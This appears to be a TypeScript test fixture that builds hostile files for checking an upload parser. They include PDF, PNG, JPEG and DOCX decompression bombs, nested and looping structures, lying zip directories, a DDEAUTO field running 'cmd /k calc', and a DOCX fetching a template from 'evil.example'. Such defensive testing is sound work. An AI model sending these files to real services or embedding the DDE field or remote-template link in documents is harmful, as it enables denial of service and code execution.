import { crc32, deflateRawSync, deflateSync } from 'node:zlib'
import { buildPackedStream, buildPdf } from './pdf.ts'
import { buildPng } from './picture.ts'
import { zip } from './zip.ts'

const MEGABYTE = 1024 * 1024

/** A file designed to block a server, to fill its memory, or to harm whoever opens it. All of them are refused. */
export type HostileFile = { is: string; filename: string; make: () => Buffer }

export const HOSTILE_FILES: readonly HostileFile[] = [
  { is: 'a PDF of overlapping streams', filename: 'a.pdf', make: () => buildOverlappingStreams() },
  { is: 'a PDF of streams without an end', filename: 'a.pdf', make: () => buildEndlessStreams() },
  { is: 'a PDF of nested arrays', filename: 'a.pdf', make: () => buildNestedPdf('[', ']', 2_000_000) },
  { is: 'a PDF of nested dictionaries', filename: 'a.pdf', make: () => buildNestedPdf('<</A', '>>', 500_000) },
  { is: 'a PDF whose table leads to itself', filename: 'a.pdf', make: () => buildTableLoop() },
  { is: 'a PDF whose pages are their own parents', filename: 'a.pdf', make: () => buildPageLoop() },
  { is: 'a PDF with an object stream of 200 MB', filename: 'a.pdf', make: () => buildObjectStream(200 * MEGABYTE) },
  { is: 'a PDF of 400,000 objects', filename: 'a.pdf', make: () => manyObjects() },
  { is: 'a PDF with a run-length bomb', filename: 'a.pdf', make: () => runLengthBomb() },
  { is: 'a PDF with a table of two billion rows', filename: 'a.pdf', make: () => buildLongTable() },
  { is: 'a picture of 480 MB', filename: 'a.png', make: () => buildDeepPicture(7745) },
  { is: 'a picture of a million pieces', filename: 'a.png', make: () => manyPieces() },
  { is: 'a picture wider than it may be', filename: 'a.png', make: () => buildPng(8, 8, { width: 30_000, height: 2 }) },
  { is: 'a JPEG of stuffed bytes', filename: 'a.jpg', make: () => buildStuffedJpeg() },
  { is: 'a JPEG of fill bytes', filename: 'a.jpg', make: () => Buffer.alloc(19 * MEGABYTE, 0xff).fill(0xd8, 1, 2) },
  { is: 'a letter that lies about its size', filename: 'a.docx', make: () => buildLyingLetter() },
  { is: 'a letter whose parts overlap', filename: 'a.docx', make: () => buildOverlappingParts() },
  { is: 'a letter of 65,000 parts', filename: 'a.docx', make: () => manyParts() },
  { is: 'a letter with a frame from elsewhere', filename: 'a.docx', make: () => buildLetterWith('frame') },
  {
    is: 'a letter with a field that starts a program',
    filename: 'a.docx',
    make: () => letterWithText(field('DDEAUTO cmd "/k calc"')),
  },
  { is: 'a letter of a million fields', filename: 'a.docx', make: () => letterWithText(FIELD_BEGIN.repeat(1_000_000)) },
  { is: 'a letter with nested links', filename: 'a.docx', make: () => buildNestedLinks() },
]

/** Many stream starts that share an end, which unpacks to `size` bytes and then has a wrong checksum. */
export function buildOverlappingStreams(heads = 5000, size = 127 * MEGABYTE): Buffer {
  const last = deflateSync(Buffer.alloc(size), { level: 9 })
  last.writeUInt32BE(1, last.length - 4)
  const head = Buffer.concat([Buffer.from('stream\n'), Buffer.from([0x78, 0xda, 0x00, 9, 0x00, 0xf6, 0xff])])
  // each is a stored block that contains the next word `stream`, its line end and its header
  const heap = Buffer.concat([...Array.from({ length: heads }, () => head), Buffer.from('stream\n'), last])
  return buildPdf({ objects: [Buffer.concat([Buffer.from('<< /Length 1 >>\n'), heap, Buffer.from('\nendstream')])] })
}

function buildEndlessStreams(): Buffer {
  return buildPdf({ objects: [`<< /Length 1 >>\n${'stream\nx\u009c'.repeat(1_500_000)}`] })
}

function buildNestedPdf(open: string, close: string, depth: number): Buffer {
  return buildPdf({ catalog: '/Deep 9 0 R', objects: [open.repeat(depth) + close.repeat(depth)] })
}

function buildTableLoop(): Buffer {
  const plain = buildPdf().toString('latin1')
  const start = /startxref\n(\d+)/.exec(plain)?.[1] ?? ''
  return buildPdf({ trailer: `/Prev ${start}`, pages: 0 })
}

function buildPageLoop(): Buffer {
  return Buffer.from(
    buildPdf().toString('latin1').replace('/Kids [3 0 R] /Count 1 ', '/Kids [2 0 R] /Count 9 '),
    'latin1',
  )
}

function buildObjectStream(size: number): Buffer {
  return buildPdf({ objects: [buildPackedStream('/Type /ObjStm /N 1 /First 4', Buffer.alloc(size))] })
}

function manyObjects(): Buffer {
  const rows = Array.from({ length: 400_000 }, (_, at) => `[${at}]`)
  return buildPdf({ catalog: '/Many 9 0 R', objects: [`[${rows.join('')}]`] })
}

/** Run-length encoded, two bytes for 128: 10 MB unpack to 640 MB. */
export function runLengthBomb(): Buffer {
  const packed = Buffer.alloc(10 * MEGABYTE)
  for (let at = 0; at < packed.length; at += 2) packed[at] = 129
  const head = `<< /Type /XRef /Size 8 /W [1 2 1] /Root 1 0 R /Filter /RunLengthDecode /Length ${packed.length} >>\nstream\n`
  const start = 9
  return Buffer.concat([
    Buffer.from(`%PDF-1.7\n1 0 obj\n${head}`),
    packed,
    Buffer.from(`\nendstream\nendobj\nstartxref\n${start}\n%%EOF\n`),
  ])
}

function buildLongTable(): Buffer {
  return Buffer.from(buildPdf().toString('latin1').replace('xref\n0 ', 'xref\n0 200000000'), 'latin1')
}

/**
 * 7,745 pixels squared: 466 kB that unpack to 480 MB, with 16 bits for each of four channels. `said`: the size in its
 * header.
 */
export function buildDeepPicture(side: number, said = side): Buffer {
  const whole = buildPng(8, 8)
  const header = Buffer.from(whole.subarray(16, 29))
  header.writeUInt32BE(said, 0)
  header.writeUInt32BE(said, 4)
  header.writeUInt8(16, 8)
  header.writeUInt8(6, 9)
  const rows = deflateSync(Buffer.alloc((1 + side * 8) * side), { level: 9 })
  return getPng([
    ['IHDR', header],
    ['IDAT', rows],
    ['IEND', Buffer.alloc(0)],
  ])
}

function manyPieces(): Buffer {
  const header = Buffer.from(buildPng(8, 8).subarray(16, 29))
  const piece = chunk('IDAT', Buffer.alloc(0))
  const pieces = Buffer.alloc(piece.length * 1_000_000)
  for (let at = 0; at < pieces.length; at += piece.length) piece.copy(pieces, at)
  return Buffer.concat([buildPng(8, 8).subarray(0, 8), chunk('IHDR', header), pieces, chunk('IEND', Buffer.alloc(0))])
}

function getPng(chunks: readonly [string, Buffer][]): Buffer {
  return Buffer.concat([buildPng(8, 8).subarray(0, 8), ...chunks.map(([name, data]) => chunk(name, data))])
}

function chunk(name: string, data: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(name), data])
  const framed = Buffer.alloc(8 + named.length)
  framed.writeUInt32BE(data.length, 0)
  named.copy(framed, 4)
  framed.writeUInt32BE(crc32(named), framed.length - 4)
  return framed
}

/** Builds a picture that never ends: a scan of stuffed bytes. */
function buildStuffedJpeg(): Buffer {
  const head = Buffer.from([
    0xff, 0xd8, 0xff, 0xc0, 0, 11, 8, 0, 8, 0, 8, 1, 1, 0x11, 0, 0xff, 0xda, 0, 8, 1, 1, 0, 0, 63, 0,
  ])
  const scan = Buffer.alloc(19 * MEGABYTE)
  for (let at = 0; at < scan.length; at += 2) scan[at] = 0xff
  return Buffer.concat([head, scan])
}

const TYPES: [string, string] = ['[Content_Types].xml', '<Types/>']
const TEXT: [string, string] = ['word/document.xml', '<w:document/>']

/** A part whose directory entry claims 1,000 bytes. */
export function buildLyingLetter(size = 300 * MEGABYTE): Buffer {
  return zip([TYPES, ['word/document.xml', deflateRawSync(Buffer.alloc(size), { level: 9 }), 1000]])
}

/** Compressed zeros that a thousand directory entries point to. */
function buildOverlappingParts(): Buffer {
  const heap = deflateRawSync(Buffer.alloc(4 * MEGABYTE), { level: 9 })
  const one = zip([TYPES, TEXT, ['word/0000.xml', heap, 4 * MEGABYTE]])
  const end = one.length - 22
  const start = one.readUInt32LE(end + 16)
  const list = one.subarray(start, end)
  const last = list.subarray(list.lastIndexOf('PK\u0001\u0002'))
  const more = Array.from({ length: 1000 }, (_, at) => {
    const entry = Buffer.from(last)
    entry.write(String(at + 1).padStart(4, '0'), 46 + 'word/'.length)
    return entry
  })
  const directory = Buffer.concat([list, ...more])
  const tail = Buffer.from(one.subarray(end))
  tail.writeUInt16LE(1003, 8)
  tail.writeUInt16LE(1003, 10)
  tail.writeUInt32LE(directory.length, 12)
  return Buffer.concat([one.subarray(0, start), directory, tail])
}

function manyParts(): Buffer {
  return zip([TYPES, TEXT, ...Array.from({ length: 65_000 }, (_, at): [string, string] => [`word/${at}.xml`, ''])])
}

/** A document with a relationship of this kind to another machine. */
export function buildLetterWith(type: string, target = 'https://evil.example/x.dotm'): Buffer {
  return letterWithLinks(
    `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`,
  )
}

export function letterWithLinks(links: string, at = 'word/_rels/settings.xml.rels'): Buffer {
  const namespace = 'http://schemas.openxmlformats.org/package/2006/relationships'
  return zip([TYPES, TEXT, [at, `<?xml version="1.0"?><Relationships xmlns="${namespace}">${links}</Relationships>`]])
}

const WORDS = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
export const FIELD_BEGIN = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'

/** A field with this code, split over several runs, and its result. */
export function field(...code: readonly string[]): string {
  const runs = code.map((part) => `<w:r><w:instrText xml:space="preserve">${part}</w:instrText></w:r>`)
  const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`
  return `${FIELD_BEGIN}${runs.join('<w:proofErr/>')}${mark('separate')}<w:r><w:t>1</w:t></w:r>${mark('end')}`
}

/** A document of one paragraph with these runs, in its text or another part. */
export function letterWithText(runs: string, at = 'word/document.xml'): Buffer {
  const text = deflateRawSync(buildLetterText(runs))
  const size = buildLetterText(runs).length
  return zip([TYPES, ...(at === TEXT[0] ? [] : [TEXT]), [at, text, size]])
}

export function buildLetterText(runs: string): Buffer {
  return Buffer.from(`<w:document xmlns:w="${WORDS}"><w:body><w:p>${runs}</w:p></w:body></w:document>`)
}

function buildNestedLinks(): Buffer {
  return letterWithLinks('<a>'.repeat(3_000_000))
}
